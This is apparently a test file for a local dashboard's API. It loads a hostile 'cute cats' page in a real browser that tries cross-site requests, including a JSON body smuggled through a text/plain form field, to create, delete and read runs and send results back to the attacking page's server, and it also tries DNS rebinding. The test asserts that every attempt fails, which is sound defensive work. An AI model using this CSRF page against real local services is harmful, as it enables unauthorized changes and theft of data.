// A page of another site attacks the dashboard from a real Chromium: it tries to create runs
// (fetch with JSON, text/plain and form bodies, a form posted into a frame, sendBeacon), to
// delete one, and to read the history, then sends whatever it got home. Nothing is created,
// nothing deleted, nothing read. A DNS name rebound to 127.0.0.1 gets nothing either.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { startServer, launchBrowser, openPage, api, runViaApi, until } from './helpers.mjs';

const ATTACK = dash => `<!doctype html><meta charset="utf-8"><title>cute cats</title>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" action="${dash}/api/runs" enctype="text/plain" target="sink">
<input name='{"target":{"url":"http://127.0.0.1:1/"},"label":"form","x":"' value='"}'></form>
<script>
const dash = ${JSON.stringify(dash)};
const spec = JSON.stringify({target: {url: 'http://127.0.0.1:1/'}, requests: 1, label: 'attack'});
const report = (what, data) => fetch('/report', {method: 'POST', body: JSON.stringify({what, data})});
async function attempt(what, fn) {
  try { await report(what, String(await fn())); } catch (e) { await report(what, 'error: ' + e.message); }
}
(async () => {
  const victim = new URLSearchParams(location.search).get('victim');
  await attempt('create json', () => fetch(dash + '/api/runs', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: spec}).then(r => r.status + ' ' + r.text()));
  await attempt('create text/plain', () => fetch(dash + '/api/runs', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: spec}).then(r => r.type));
  await attempt('create urlencoded', () => fetch(dash + '/api/runs', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'application/x-www-form-urlencoded'}, body: spec}).then(r => r.type));
  await attempt('create beacon', () => navigator.sendBeacon(dash + '/api/runs', new Blob([spec], {type: 'text/plain'})));
  await attempt('create form', () => new Promise(res => { document.getElementById('f').submit(); setTimeout(() => res('posted'), 500); }));
  await attempt('delete', () => fetch(dash + '/api/runs/' + victim, {method: 'DELETE'}).then(r => r.status));
  await attempt('delete no-cors', () => fetch(dash + '/api/runs/' + victim, {method: 'DELETE', mode: 'no-cors'}).then(r => r.type));
  await attempt('cancel', () => fetch(dash + '/api/runs/' + victim + '/cancel', {method: 'POST', mode: 'no-cors'}).then(r => r.type));
  await attempt('read list', () => fetch(dash + '/api/runs').then(r => r.text()));
  await attempt('read run', () => fetch(dash + '/api/runs/' + victim).then(r => r.text()));
  await attempt('read export', () => fetch(dash + '/api/runs/' + victim + '/export.json', {credentials: 'include'}).then(r => r.text()));
  await attempt('read config', () => fetch(dash + '/api/config').then(r => r.text()));
  await report('done', '');
})();
</script>`;

describe('a page of another site attacks the dashboard', {timeout: 120000}, () => {
  let server, browser, evil, reports = [], evilBase, victim;

  before(async () => {
    server = await startServer();
    browser = await launchBrowser(['--host-resolver-rules=MAP rebound.test 127.0.0.1']);
    evil = http.createServer((req, res) => {
      if (req.method === 'POST' && req.url === '/report') {
        let body = '';
        req.on('data', d => (body += d));
        req.on('end', () => {
          reports.push(JSON.parse(body));
          res.end('ok');
        });
        return;
      }
      res.writeHead(200, {'Content-Type': 'text/html'});
      res.end(ATTACK(server.base));
    });
    await new Promise(r => evil.listen(0, '127.0.0.1', r));
    evilBase = `http://127.0.0.1:${evil.address().port}`;
    victim = (await runViaApi(server.base, {target: {url: server.demo + '?delay_ms=1'}, requests: 1, modes: ['sync'], label: 'victim'})).id;
  });

  after(async () => {
    if (browser) await browser.close().catch(() => {});
    if (evil) evil.close();
    if (server) await server.stop();
  });

  it('creates, deletes and reads nothing', async () => {
    const {page, context} = await openPage(browser);
    try {
      await page.goto(`${evilBase}/?victim=${victim}`);
      await until(() => reports.some(r => r.what === 'done'), 30000, 'the attack to finish');
      await page.waitForTimeout(0);
    } finally {
      await context.close();
    }
    const got = Object.fromEntries(reports.map(r => [r.what, r.data]));
    // Whatever came back, none of it is the dashboard's data.
    for (const [what, data] of Object.entries(got)) {
      assert.ok(!data.includes(victim), `${what} read the victim run: ${data}`);
      assert.ok(!data.includes('"runs"') && !data.includes('demo_target'), `${what} read data: ${data}`);
    }
    for (const what of ['read list', 'read run', 'read export', 'read config', 'create json', 'delete'])
      assert.match(got[what], /^error: /, what);
    // The server saw the attempts and refused them: one run, the victim, untouched.
    const {data} = await api(server.base, '/api/runs?limit=100');
    assert.deepEqual(data.runs.map(r => r.id), [victim]);
    assert.equal(data.runs[0].status, 'done');
  });

  it('a DNS name rebound to 127.0.0.1 gets no page and no data', async () => {
    const {page, context} = await openPage(browser, {allow: [/status of 403/]});
    try {
      const port = new URL(server.base).port;
      for (const path of ['/', '/api/runs', `/api/runs/${victim}`, '/app.js']) {
        const res = await page.goto(`http://rebound.test:${port}${path}`);
        assert.equal(res.status(), 403, path);
        assert.ok(!(await res.text()).includes(victim), path);
      }
    } finally {
      await context.close();
    }
  });
});
